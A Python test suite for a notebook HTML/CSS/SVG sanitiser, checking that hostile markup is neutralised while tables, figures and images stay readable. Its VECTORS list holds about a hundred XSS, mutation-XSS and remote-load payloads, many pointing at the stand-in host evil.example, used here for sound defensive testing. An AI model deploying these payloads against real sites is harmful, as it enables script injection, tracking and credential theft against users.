# SPDX-License-Identifier: Apache-2.0
"""HTML, styles and SVG of notebooks cannot run, load or leave the page, and stay readable."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st
from support.pages import Page, dangers

from runner.stages.convert.images import svg_data_url
from runner.stages.convert.sanitize import clean_html, shows_something
from runner.stages.convert.sanitize_css import safe_declarations, safe_stylesheet

VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<script>alert(1)//",
    "<<script>script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' ONERROR = 'alert(1)'>",
    "<img/src='x'/onerror='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href='data:text/javascript,alert(1)'/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><use xlink:href='https://evil.example/#x'/></svg>",
    "<svg><image href='https://evil.example/a.png'/></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><style>@import 'https://evil.example/a.css'</style></svg>",
    "<svg><rect fill='url(https://evil.example/#a)'/></svg>",
    "<svg><rect style='fill:url(//evil.example/#a)'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math href='javascript:alert(1)'><mi>x</mi></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><script>alert(1)</script></textarea>",
    "<xmp><script>alert(1)</script></xmp>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#14;  javascript:alert(1)'>x</a>",
    "<a href='java\tscr\nipt:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='https://ok.example' ping='https://evil.example'>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src='javascript:alert(1)'></frameset>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<applet code=x></applet>",
    "<form action='https://evil.example'><input name=password><button formaction='javascript:alert(1)'>ok</button></form>",
    "<isindex action=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<meta http-equiv='Content-Security-Policy' content=''>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/a.css'>",
    "<link rel=preload as=image href='https://evil.example/a.png'>",
    "<link rel=dns-prefetch href='//evil.example'>",
    "<body onload=alert(1) background='https://evil.example/a.png'>",
    "<table background='https://evil.example/a.png'><td background='javascript:alert(1)'>x</td></table>",
    "<video poster='https://evil.example/a.png' src='https://evil.example/v.mp4'></video>",
    "<audio src='//evil.example/a.mp3'></audio>",
    "<video><source src='https://evil.example/v.mp4' onerror=alert(1)></video>",
    "<picture><source srcset='https://evil.example/a.png'><img src='data:image/png;base64,AA'></picture>",
    "<img srcset='https://evil.example/a.png 1x' src='data:image/png;base64,AA'>",
    "<img src='https://evil.example/a.png'>",
    "<img src='//evil.example/a.png'>",
    "<img src='\\\\evil.example\\a.png'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<input type=image src='https://evil.example/a.png'>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div style='background:url(https://evil.example/a.png)'>x</div>",
    "<div style='background:u\\72l(https://evil.example/a.png)'>x</div>",
    "<div style='background-image:image-set(\"https://evil.example/a.png\" 1x)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='behavior:url(x.htc)'>x</div>",
    "<div style='-moz-binding:url(//evil.example/x#a)'>x</div>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<div style='--p:fixed;position:var(--p)'>x</div>",
    "<div style='--u:url(https://evil.example/a);background:var(--u)'>x</div>",
    "<style>@import url(https://evil.example/a.css);</style>x",
    "<style>@font-face{font-family:x;src:url(https://evil.example/a.woff)}</style>x",
    "<style>p{background:url('https://evil.example/a.png')}</style>x",
    "<style>p{content:'</style><script>alert(1)</script>'}</style>x",
    "<style>p{content:'\\3c/style>\\3cscript>alert(1)\\3c/script>'}</style>x",
    "<style>p{font-family:\\3c/style\\3e\\3cscript\\3e}</style>x",
    "<style>[a='\\3c/style>\\3cscript>alert(1)']{color:red}</style>x",
    "<style>@media \\3c/style\\3e\\3cscript\\3e{p{color:red}}</style>x",
    "<p style='font-family:\"\\22><script>alert(1)</script>\"'>x</p>",
    "<style>p{color:red}</style/><script>alert(1)</script>",
    "<style>@media screen{p{background:url(//evil.example/a)}}</style>x",
    "<style>@namespace url(https://evil.example);</style>x",
    "<style>p{x:url(https://evil.example/a);color:red}}body{display:none}</style>x",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<dialog open><a href=javascript:alert(1)>x</a></dialog>",
    "<portal src='https://evil.example'></portal>",
    "<object><param name=src value='https://evil.example'></object>",
    "<p id=x tabindex=1 onfocus=alert(1) contenteditable autofocus>x</p>",
    "<x onclick=alert(1)>x</x>",
    "<b onmouseover=alert(1)>x</b>",
    "\ud800<script>alert(1)</script>",
    "<img src=x:x\x00 onerror=alert(1)>",
]


@pytest.mark.parametrize("vector", VECTORS)
def test_a_known_attack_leaves_nothing_that_runs_or_loads(vector):
    """Each vector is harmless after cleaning, alone, inside a table and after broken markup."""
    for html in (
        vector,
        f"<table><tr><td>{vector}</td></tr></table>",
        f"<svg></p><style><!--{vector}",
        f"<math>{vector}",
    ):
        assert dangers(clean_html(html, scope="#out")) == []


@pytest.mark.parametrize(
    "html",
    [
        "<script>1</script>",
        "<b onclick=x>x</b>",
        "<img src='//x.example/a'>",
        "<a href=' javascript:x'>x</a>",
        "<style>p{background:url(//x)}</style>",
        "<iframe></iframe>",
        "<p style='position: fixed'>",
        "<meta http-equiv=refresh content=0>",
        "<svg><use href='http://x'/></svg>",
    ],
)
def test_the_helper_that_looks_for_dangers_finds_them(html):
    """A test that cannot fail proves nothing: the raw vectors are seen."""
    assert dangers(html)


@given(
    st.lists(
        st.sampled_from(
            [*VECTORS, "<p>", "</p>", "<!--", "-->", "<table>", "<svg>", "</svg>", "<math>", "'", '"', ">", "]]>"]
        ),
        max_size=6,
    )
)
def test_attacks_stay_harmless_in_any_combination(parts):
    """Cleaning the concatenation of vectors and broken markup leaves nothing, and cleaning again changes nothing bad."""
    once = clean_html("".join(parts), scope="#out")
    assert dangers(once) == []
    assert dangers(clean_html(once, scope="#out")) == []


@given(st.text(max_size=300))
def test_any_text_is_accepted(text):
    """No text makes the sanitiser raise."""
    assert dangers(clean_html(text, scope="#out")) == []


def test_tables_stay_tables():
    """A data frame keeps its structure, spans and classes."""
    page = Page(
        clean_html(
            '<table border="1" class="dataframe"><thead><tr><th scope="col" colspan="2">a</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>'
        )
    )
    assert page.one("table").classes == {"dataframe"}
    assert page.one("th").attributes == {"scope": "col", "colspan": "2"}
    assert [cell.text for cell in page.all("td")] == ["1", "2"]


def test_an_inline_drawing_keeps_its_shapes():
    """Gradients, clip paths and references inside the drawing work as before."""
    html = (
        '<svg viewBox="0 0 9 9" width="9"><defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient>'
        '<path id="p" d="M0 0"/></defs><use xlink:href="#p"/><rect fill="url(#g)" style="stroke: rgb(0,0,0); stroke-width: 2"/></svg>'
    )
    page = Page(clean_html(html))
    assert page.one("use").attributes == {"xlink:href": "#p"}
    assert page.one("rect").attributes["fill"] == "url(#g)"
    assert "stroke:rgb(0,0,0)" in page.one("rect").attributes["style"].replace(" ", "")
    assert "viewBox" in clean_html(html)
    assert "linearGradient" in clean_html(html)


@pytest.mark.parametrize(
    ("href", "stays"),
    [
        ("https://example.org/a?b=c", True),
        ("http://example.org", True),
        ("mailto:a@example.org", True),
        ("#Load-data", True),
        ("02_next.ipynb", True),
        ("../figures/a.png", True),
        ("/absolute", True),
        ("//example.org", False),
        ("/\\example.org", False),
        ("ftp://example.org", False),
        ("blob:https://example.org/1", False),
    ],
)
def test_links_of_people_stay_and_others_lose_their_target(href, stays):
    """A link keeps its text in any case."""
    link = Page(clean_html(f"<a href='{href}'>text</a>")).one("a")
    assert link.text == "text"
    assert ("href" in link.attributes) is stays


def test_a_remote_image_becomes_a_visible_link():
    """What is not loaded is said, with the address to look at."""
    page = Page(clean_html('<p>before <img src="https://example.org/a&amp;b.png" alt="the logo"> after</p>'))
    assert page.all("img") == []
    assert "Remote image, not loaded: the logo" in page.one("span").text
    assert page.one("a").attributes["href"] == "https://example.org/a&b.png"
    assert page.one("p").text.startswith("before")


def test_text_cannot_forge_the_stand_in_of_an_image():
    """Attributes and text that look like our own mark are text."""
    html = '<p title="<img src=&quot;runner-missing:x&quot;>">&lt;img src="runner-missing:y"&gt;</p><img src="runner-missing:https%3A%2F%2Fe.example" alt="z">'
    page = Page(clean_html(html))
    assert dangers(page.html) == []
    assert '<img src="runner-missing:y">' in page.one("p").text


def test_embedded_images_and_sounds_stay():
    """Data URLs of images, audio and video are part of the notebook."""
    page = Page(
        clean_html(
            '<img src="data:image/png;base64,AAAA" width="5"><audio controls src="data:audio/wav;base64,AAAA"></audio>'
        )
    )
    assert page.one("img").attributes == {"src": "data:image/png;base64,AAAA", "width": "5"}
    assert page.one("audio").attributes["src"].startswith("data:audio/wav")


def test_inputs_can_only_be_check_boxes():
    """Folding reprs work with check boxes; nothing can ask for a password."""
    page = Page(
        clean_html('<input type="password" name="p"><input id="s" type="checkbox" checked><label for="s">more</label>')
    )
    assert {box.attributes["type"] for box in page.all("input")} == {"checkbox"}
    assert page.one("label").attributes["for"] == "s"


def test_styles_are_confined_to_their_output():
    """Selectors get the id of the output; the root becomes the output itself; states of a root elsewhere are dropped."""
    css = safe_stylesheet(
        ":root{--c:red} html[theme=dark]{--c:blue} body .a, .b > c{color:var(--c)} @media print{.d{display:none}} #T_1 td:nth-child(2){background-color:#fff !important}",
        "#out",
    )
    assert "#out{--c:red}" in css
    assert "blue" not in css
    assert "#out .a,#out .b > c{color:var(--c)}" in css
    assert "@media print{#out .d{display:none}}" in css
    assert "#out #T_1 td:nth-child(2){background-color:#fff !important}" in css


def test_without_a_place_there_are_no_style_elements():
    """Markdown has no element to confine its styles to, so they are dropped."""
    assert clean_html("<style>p{color:red}</style><p>x</p>") == "<p>x</p>"


@pytest.mark.parametrize("value", ["color:red", "font-weight: bold; text-align:right", "width:3em;height:10px"])
def test_harmless_declarations_stay(value):
    """Colours, fonts and boxes of a style attribute survive."""
    assert safe_declarations(value).replace(" ", "") == value.replace(" ", "")


def test_a_gradient_bar_of_pandas_stays():
    """Backgrounds without a URL are harmless."""
    assert "linear-gradient(90deg" in safe_declarations(
        "background: linear-gradient(90deg, #d65f5f 50%, transparent 50%)"
    )


def test_deep_nesting_is_shown_as_text_instead_of_parsed():
    """A hundred thousand open elements, closed or not, cost no minutes."""
    for html in ("<div>" * 100_000, "<div>" * 50_000 + "x" + "</div>" * 50_000, "<b></i>" * 100_000):
        assert Page(clean_html(html)).one("p").text.startswith("This HTML is nested too deeply")


def test_a_long_flat_table_is_not_deep():
    """Twenty thousand rows are many elements, but not nested."""
    html = "<table>" + "<tr><td>1</td></tr>" * 20_000 + "</table>"
    assert len(Page(clean_html(html)).all("td")) == 20_000


@pytest.mark.parametrize(
    ("html", "shows"),
    [
        ("<p>x</p>", True),
        ("x", True),
        ("<div> </div>", False),
        ("", False),
        ("<svg></svg>", True),
        ("<style>a{b:c}</style><div></div>", False),
    ],
)
def test_an_empty_rest_is_told_from_content(html, shows):
    """What was only a script shows nothing, so another form of the output is taken."""
    assert shows_something(html) is shows


SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 1 1">{}</svg>'


def _decoded(svg: str) -> str:
    url = svg_data_url(svg)
    assert url is not None
    head, _, body = url.partition(",")
    assert head == "data:image/svg+xml;base64"
    return base64.b64decode(body).decode()


def test_an_svg_without_its_namespace_becomes_an_image_all_the_same():
    """A page needs no namespace, an image does: it is added."""
    assert _decoded("<svg viewBox='0 0 1 1'><path d='M0 0'/></svg>").startswith(
        '<svg xmlns="http://www.w3.org/2000/svg"'
    )


@pytest.mark.parametrize(
    "control", ["<input type=range>", "<input>", "<button>Play</button>", "<select><option>a</select>"]
)
def test_dead_controls_are_left_out_and_check_boxes_stay(control):
    """What asks for something gets no answer on a page; xarray's folding check boxes work without a script."""
    assert clean_html(f"<p>x</p>{control}") == "<p>x</p>"
    assert 'type="checkbox"' in clean_html("<input type=checkbox checked>")


def test_a_picture_without_an_address_is_not_a_broken_one():
    """Its text is shown, and nothing where it has none."""
    assert clean_html("<img width=9>") == ""
    assert "Image without an address: a plot" in clean_html("<img alt='a plot'>")


def test_an_svg_figure_of_matplotlib_stays_whole():
    """Doctype, styles, clip paths and references inside the figure survive."""
    text = _decoded(
        '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
        + SVG.format('<style>*{stroke-linecap:butt}</style><g clip-path="url(#c)"><use xlink:href="#d"/></g>')
    )
    assert 'clip-path="url(#c)"' in text
    assert 'xlink:href="#d"' in text
    assert "stroke-linecap" in text


@pytest.mark.parametrize(
    "svg",
    ["", "<svg", "<html/>", "no xml", '<!DOCTYPE x [<!ENTITY a "b">]><svg>&a;</svg>', "<svg>&undefined;</svg>"],
)
def test_what_is_no_svg_gives_none(svg):
    """Broken documents and ones with entities of their own are not shown as images."""
    assert svg_data_url(svg) is None


def test_empty_headings_and_wide_formulas_are_accessible():
    """The empty corner of a DataFrame is no heading; a formula that may scroll can be focused."""
    table = '<table><tr><th></th><th class="blank" scope="col">&nbsp;</th><th scope="row">a</th></tr></table>'
    assert clean_html(table).count("<th") == 1
    assert clean_html(table).count("<td") == 2
    assert 'tabindex="0"' in clean_html('<math alttext="a > b" display="block"><mi>a</mi></math>')
    assert "tabindex" not in clean_html('<math alttext=\' display="block"\'><mi>a</mi></math><p tabindex="3">x</p>')
